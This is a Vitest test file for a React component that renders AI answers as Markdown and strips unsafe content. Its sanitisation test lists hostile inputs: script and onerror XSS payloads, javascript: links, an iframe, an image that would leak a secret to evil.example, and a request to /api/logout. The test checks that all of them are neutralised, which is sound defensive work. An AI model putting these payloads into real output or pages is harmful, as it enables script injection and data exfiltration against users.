// @vitest-environment jsdom
import { cleanup, render } from "@testing-library/react";
import { MemoryRouter } from "react-router-dom";
import { afterEach, describe, expect, test } from "vitest";
import { AnswerText, loadClosing } from "./answer-text.tsx";

afterEach(cleanup);

function htmlOf(text: string, streaming = false): HTMLElement {
  return render(
    <MemoryRouter>
      <AnswerText text={text} streaming={streaming} />
    </MemoryRouter>,
  ).container;
}

describe("an answer", () => {
  test("is Markdown", () => {
    const html = htmlOf("**Bold** and\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect([
      html.querySelector("strong")?.textContent,
      html.querySelectorAll("li").length,
      html.querySelectorAll("td").length,
    ]).toEqual(["Bold", 2, 2]);
  });

  test("may use every element that a model uses", () => {
    const html = htmlOf(
      [
        "_soft_ ~~gone~~ `a < b`  \nnext",
        "3. three\n\n   more\n4. four\n   - [x] done\n   - [ ] open",
        "> quoted",
        "```js\nlet x = 1 < 2;\n```",
        "---",
        "| a | b |\n|:-:|---|\n| 1 | **2** |",
      ].join("\n\n"),
    );
    expect(html.querySelector(".answer-text")?.innerHTML).toBe(
      [
        "<p><em>soft</em> <del>gone</del> <code>a &lt; b</code><br>next</p>",
        '<ol start="3"><li><p>three</p><p>more</p></li>',
        "<li><p>four</p><ul><li>\u2611 done</li><li>\u2610 open</li></ul></li></ol>",
        "<blockquote><p>quoted</p></blockquote>",
        "<pre><code>let x = 1 &lt; 2;</code></pre>",
        "<hr>",
        '<div class="overflow-x-auto"><table><thead><tr><th style="text-align: center;">a</th><th>b</th></tr></thead>',
        '<tbody><tr><td style="text-align: center;">1</td><td><strong>2</strong></td></tr></tbody></table></div>',
      ].join(""),
    );
  });

  test("shows characters that are written by name or number, and unknown names as they are", () => {
    expect(htmlOf("a &amp; b&nbsp;&lt;i&gt; &#8364;&#x1F600; &no; \\*").textContent).toBe(
      "a & b\u00a0<i> \u20ac\u{1F600} &no; *",
    );
  });

  test.each([
    ["raw HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"],
    ["a remote image", "![steal](https://evil.example/x.png?q=secret)"],
    ["an image of this site", "![own](/api/logout)"],
    ["a foreign link", "[click](https://evil.example)"],
    ["a link that runs", "[click](javascript:alert(1))"],
    ["a link into the API", "[click](/api/logout)"],
    ["a protocol-relative link", "[click](//evil.example/x)"],
    ["a link that is not an address", "[click](http://[)"],
    ["a bare address", "see https://evil.example/x and evil@evil.example"],
    ["a link by reference", "[click][1]\n\n[1]: https://evil.example"],
    ["an image by reference", "![own][1]\n\n[1]: https://evil.example/x.png"],
    ["an image in a link", "[![steal](https://evil.example/x.png)](https://evil.example)"],
    ["inline HTML", 'so <a href="https://evil.example">this</a> <b onclick="alert(1)">here</b>'],
    ["HTML after a list", "- one\n<img src=x onerror=alert(1)>\n<iframe src=//evil.example></iframe>"],
  ])("never carries %s", (_what, text) => {
    const html = htmlOf(text);
    expect(html.querySelectorAll("script, img, iframe, a, [onerror]")).toHaveLength(0);
  });

  test("shows raw HTML as plain text", () => {
    expect(htmlOf('Write <b onclick="x()">so</b>').textContent).toBe('Write <b onclick="x()">so</b>');
  });

  test("gives headings no id, because another answer may have the same one", () => {
    const html = htmlOf("# Plan\n\n## Plan\n\n#### Plan\n\n###### Plan");
    expect(html.querySelectorAll("[id]")).toHaveLength(0);
    expect([...html.querySelectorAll("h2, h3")].map(({ tagName }) => tagName)).toEqual([
      "H2",
      "H2",
      "H3",
      "H3",
    ]);
  });

  test("may link to a page of this site", () => {
    expect(htmlOf("[Buy](/credits?package=2)").querySelector("a")?.getAttribute("href")).toBe(
      "/credits?package=2",
    );
  });

  test("closes half-open syntax while streaming", async () => {
    await loadClosing();
    expect(htmlOf("This is **importa", true).querySelector("strong")?.textContent).toBe("importa");
  });
});
